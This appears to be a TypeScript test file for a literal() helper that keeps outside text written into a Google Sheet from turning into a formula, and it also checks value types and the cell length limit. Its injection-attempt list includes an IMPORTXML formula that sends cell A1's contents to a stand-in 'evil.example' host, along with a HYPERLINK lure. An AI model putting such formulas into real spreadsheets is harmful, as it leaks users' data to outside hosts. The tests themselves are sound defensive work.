// literal(): outside text lands in the Sheet as the same text, never as a formula or a re-typed value.

import { literal, MAX_CELL_CHARS } from '../../src/sheet/literal';
import { FakeSpreadsheet } from '../fakes/spreadsheet';

/** Writes `value` through literal() into A1 of a fresh tab and answers what Sheets then holds. */
function roundTrip(value: unknown): { value: unknown; formula: string | null } {
  const ss = FakeSpreadsheet.withTabs({ T: [] });
  const sheet = ss.sheet('T');
  sheet.getRange(1, 1, 1, 1).setValues([[literal(value)]]);
  return { value: sheet.rows()[0]?.[0], formula: sheet.formulaAt(1, 1) };
}

describe('literal: injection attempts stay text', () => {
  const attempts = [
    '=IMPORTXML("https://evil.example/?d="&A1, "//a")',
    '=HYPERLINK("https://evil.example", "Click me")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
  ];

  it.each(attempts)('prefixes %j with an apostrophe', (attempt) => {
    expect(literal(attempt)).toBe(`'${attempt}`);
  });

  it.each(attempts)('round-trips %j as the same text with no formula', (attempt) => {
    expect(roundTrip(attempt)).toEqual({ value: attempt, formula: null });
  });

  it('without literal(), the fake would store a formula (so the round-trip test can fail)', () => {
    const ss = FakeSpreadsheet.withTabs({ T: [] });
    ss.sheet('T')
      .getRange(1, 1, 1, 1)
      .setValues([['=HYPERLINK("x")']]);
    expect(ss.sheet('T').formulaAt(1, 1)).toBe('=HYPERLINK("x")');
  });
});

describe('literal: text Sheets would re-type stays text', () => {
  it.each(['-2', '1700000000.000100', '0042', 'TRUE', 'false', "'quoted'"])(
    'round-trips %j unchanged',
    (text) => {
      expect(roundTrip(text).value).toBe(text);
    },
  );

  // The fake does not parse dates or currencies, so these are checked on literal()'s output.
  it.each(['2026-01-31', '$100', '12%'])(
    'prefixes %j, which Sheets would turn into a number or date',
    (text) => {
      expect(literal(text)).toBe(`'${text}`);
    },
  );

  it('leaves ordinary text without an apostrophe', () => {
    expect(literal('Jane Doe <jane@corp.com>')).toBe('Jane Doe <jane@corp.com>');
  });

  it('prefixes text whose first non-space character is a starter', () => {
    expect(literal('  =1+1')).toBe("'  =1+1");
  });
});

describe('literal: non-text values', () => {
  it('passes numbers through', () => {
    expect(literal(3.5)).toBe(3.5);
  });

  it('passes booleans through', () => {
    expect(literal(false)).toBe(false);
  });

  it('passes Dates through', () => {
    const when = new Date('2026-03-01T10:00:00Z');
    expect(literal(when)).toBe(when);
  });

  it.each([null, undefined, Number.NaN, Number.POSITIVE_INFINITY, new Date('nonsense')])(
    'turns %p into an empty cell',
    (v) => {
      expect(literal(v)).toBe('');
    },
  );

  it('writes objects as JSON text', () => {
    expect(literal({ attempts: 2 })).toBe('{"attempts":2}');
  });

  it('writes JSON arrays as literal text even though they could look like anything', () => {
    expect(roundTrip(['=1'])).toEqual({ value: '["=1"]', formula: null });
  });
});

describe('literal: the Sheets cell limit', () => {
  it('caps long text at the limit', () => {
    expect(String(literal('a'.repeat(MAX_CELL_CHARS + 10))).length).toBe(MAX_CELL_CHARS);
  });

  it('marks capped text as truncated', () => {
    expect(String(literal('a'.repeat(MAX_CELL_CHARS + 10)))).toMatch(/\[truncated\]$/);
  });

  it('counts the apostrophe within the limit', () => {
    expect(String(literal('='.repeat(MAX_CELL_CHARS))).length).toBe(MAX_CELL_CHARS);
  });

  it('keeps text exactly at the limit whole', () => {
    const text = 'b'.repeat(MAX_CELL_CHARS);
    expect(literal(text)).toBe(text);
  });

  it('never cuts an emoji in half', () => {
    const limitMinusMark = MAX_CELL_CHARS - '… [truncated]'.length;
    const text = 'a'.repeat(limitMinusMark - 1) + '😀'.repeat(10);
    const out = String(literal(text));
    expect(out.slice(0, -'… [truncated]'.length)).toBe('a'.repeat(limitMinusMark - 1));
  });
});
